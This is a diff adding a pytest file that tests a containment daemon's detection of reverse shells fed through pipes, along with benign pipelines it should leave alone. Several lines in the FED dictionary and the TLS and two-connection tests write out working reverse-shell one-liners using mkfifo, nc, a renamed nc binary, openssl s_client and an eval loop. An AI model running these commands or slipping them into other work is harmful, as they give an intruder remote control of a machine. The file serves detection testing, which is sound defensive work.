@@ -1,0 +1,143 @@
+"""Shells whose commands come over a connection and through pipes are cut off; shells beside connections are not."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import ssl
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from killswitch.commands import Containment
+from tests.rig.daemon import Daemon
+from tests.rig.netns import FarSide
+from tests.rig.tunnels import Hub, certificate
+
+CUT_OFF = Containment(severed=True, frozen=True)
+RULE = "shell-fed-through-pipes"
+
+
+@pytest.fixture(scope="module")
+def tls(tmp_path_factory: pytest.TempPathFactory) -> ssl.SSLContext:
+    return certificate(tmp_path_factory.mktemp("tls"))
+
+
+def command(intruder: socket.socket, line: str = "id; sleep 0.1\n") -> str:
+    """What the shell over there answers. "" once it is cut off."""
+    with contextlib.suppress(OSError):
+        intruder.sendall(line.encode())
+        return intruder.recv(4096).decode(errors="replace")
+    return ""
+
+
+FED = {
+    "netcat": "mkfifo f; sh -i < f 2>&1 | nc {host} {port} > f",
+    "netcat-by-another-name": "mkfifo f; cp $(readlink -f $(which nc)) ./updater; sh < f 2>&1 | ./updater {host} {port} > f",
+    "as-everybody-types-it": "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc {host} {port} > f",
+    "through-filters": "mkfifo f; cat -u < f | bash 2>&1 | cat -u | nc {host} {port} > f",
+    "an-interpreter": "mkfifo f; {python} -i -u < f 2>&1 | nc {host} {port} > f",
+    "commands-by-eval": "mkfifo f; while read -r line; do eval \"$line\"; done < f 2>&1 | nc {host} {port} > f",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("line", FED.values(), ids=FED)
+def test_a_shell_behind_pipes(shared_daemon: Daemon, far: FarSide, tmp_path: Path, line: str) -> None:
+    shared_daemon.watched("job")
+    with Hub(far) as hub:
+        words = {"host": hub.host, "port": hub.port, "python": sys.executable}
+        shared_daemon.spawn("job", "/bin/bash", "-c", line.format(**words), cwd=tmp_path)
+        intruder = hub.accept()
+        talks = "print(1)\n" if "python" in line else "id; sleep 0.1\n"
+        for _ in range(40):
+            if not command(intruder, talks):
+                break
+            time.sleep(0.2)
+        found(shared_daemon)
+
+
+def test_a_shell_behind_tls(shared_daemon: Daemon, far: FarSide, tmp_path: Path, tls: ssl.SSLContext) -> None:
+    shared_daemon.watched("job")
+    with Hub(far, tls=tls) as hub:
+        line = f"mkfifo f; sh < f 2>&1 | openssl s_client -quiet -connect {hub.host}:{hub.port} > f 2>/dev/null"
+        shared_daemon.spawn("job", "/bin/bash", "-c", line, cwd=tmp_path)
+        intruder = hub.accept()
+        assert "uid=0" in command(intruder)
+        found(shared_daemon)
+
+
+def test_a_shell_between_two_connections(shared_daemon: Daemon, far: FarSide, tmp_path: Path) -> None:
+    shared_daemon.watched("job")
+    with Hub(far) as orders, Hub(far) as answers:
+        line = f"sleep 60 | nc {orders.host} {orders.port} | sh 2>&1 | nc {answers.host} {answers.port}"
+        shared_daemon.spawn("job", "/bin/bash", "-c", line, cwd=tmp_path)
+        giving, taking = orders.accept(), answers.accept()
+        giving.sendall(b"id\n")
+        assert "uid=0" in taking.recv(4096).decode()
+        with contextlib.suppress(OSError):  # it is cut off meanwhile
+            for _ in range(10):
+                giving.sendall(b"id\n")
+                time.sleep(0.1)
+        found(shared_daemon)
+
+
+def found(daemon: Daemon) -> None:
+    daemon.wait_for("cut off", lambda: (w := daemon.workload("job")) is not None and w.observed == CUT_OFF)
+    w = daemon.workload("job")
+    assert w
+    findings = {f.rule: f for f in daemon.client.incident(w.incident).findings}
+    assert RULE in findings
+    assert "fed through pipes by" in findings[RULE].summary
+
+
+# --- innocent -----------------------------------------------------------------------------------------------------------
+
+AGENT = """
+import socket, subprocess, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1)
+for _ in range(25):
+    s.sendall(b"a long prompt, with everything said so far; what shall I do?\\n")
+    s.recv(4096)
+    shell.stdin.write("date\\n")
+    shell.stdin.flush()
+    print(shell.stdout.readline(), flush=True)
+    time.sleep(0.1)
+print("done")
+"""
+HONEST = {
+    "an installer": "for i in 1 2 3; do nc -N {host} {port} < request | sh; done | tee log; echo done",
+    "a filter to a log host": "for i in $(seq 25); do echo $i; sleep 0.1; done | rev | nc -N {host} {port} > answer; echo done",
+    "an agent with a shell of its own": "exec {python} agent.py {host} {port}",
+    "a script that asks": "mkfifo f; bash asks.sh < f | nc {host} {port} > f; echo done",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("line", HONEST.values(), ids=HONEST)
+def test_honest_work_with_a_shell_beside_a_connection(
+    shared_daemon: Daemon, far: FarSide, tmp_path: Path, line: str
+) -> None:
+    shared_daemon.watched("job")
+    (tmp_path / "agent.py").write_text(AGENT)
+    (tmp_path / "request").write_text("which version?\n")
+    (tmp_path / "asks.sh").write_text("for i in $(seq 25); do echo question $i; read -r answer; sleep 0.1; done\n")
+    with Hub(far) as hub:
+        words = {"host": hub.host, "port": hub.port, "python": sys.executable}
+        job = shared_daemon.spawn(
+            "job", "/bin/bash", "-c", line.format(**words), cwd=tmp_path, stdout=subprocess.PIPE, text=True
+        )
+        for _ in range(3 if "installer" in line or "for i in 1 2 3" in line else 1):
+            served = hub.accept()
+            with contextlib.suppress(OSError):
+                while served.recv(4096):
+                    served.sendall(b"sleep 1; echo installed\n")
+                    if "request" in line:
+                        break
+                served.shutdown(socket.SHUT_RDWR)
+        out, _ = job.communicate(timeout=30)
+        assert "done" in str(out)
+    w = shared_daemon.workload("job")
+    assert w is not None and w.observed == Containment(), shared_daemon.log()[-4000:]
